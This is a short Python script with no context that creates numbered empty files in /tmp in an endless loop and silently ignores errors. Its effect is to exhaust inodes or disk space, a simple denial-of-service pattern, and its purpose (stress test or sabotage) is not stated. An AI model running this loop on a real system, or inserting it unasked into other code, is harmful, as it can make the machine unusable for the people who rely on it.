import itertools
import os

for number in itertools.count():
    try:
        os.close(os.open(f"/tmp/{number}", os.O_CREAT))
    except OSError:
        pass
